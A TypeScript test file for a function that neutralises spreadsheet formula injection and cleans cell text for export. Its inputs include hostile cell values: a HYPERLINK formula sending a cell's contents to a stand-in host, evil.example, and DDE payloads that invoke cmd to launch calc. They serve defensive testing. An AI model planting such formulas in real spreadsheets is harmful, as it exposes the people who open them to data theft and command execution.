import { MAX_CELL_CHARS, neutralizeFormula, toSheetText } from './neutralize-formula';

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('prefixes hostile text %j with an apostrophe', (hostile, expected) => {
    expect(neutralizeFormula(hostile)).toBe(expected);
  });

  it.each(['Kaspersky Endpoint Security', 'MacBook-Pro de José', 'a=b', "'already quoted", '', ' =1'])(
    'leaves ordinary text %j untouched',
    (text) => {
      expect(neutralizeFormula(text)).toBe(text);
    },
  );
});

describe('toSheetText', () => {
  it('neutralises formulas and replaces characters XML cannot carry', () => {
    expect(toSheetText('=1+1\u0001x')).toBe("'=1+1\uFFFDx");
    expect(toSheetText('line\nbreak\ttab')).toBe('line\nbreak\ttab');
  });

  it('keeps valid surrogate pairs and replaces lone ones', () => {
    expect(toSheetText('laptop 💻')).toBe('laptop 💻');
    expect(toSheetText('bad \uD800 half')).toBe('bad \uFFFD half');
  });

  it("cuts text longer than Excel's cell limit", () => {
    const out = toSheetText('x'.repeat(MAX_CELL_CHARS + 10));
    expect(out).toHaveLength(MAX_CELL_CHARS);
    expect(out.endsWith('…')).toBe(true);
  });
});
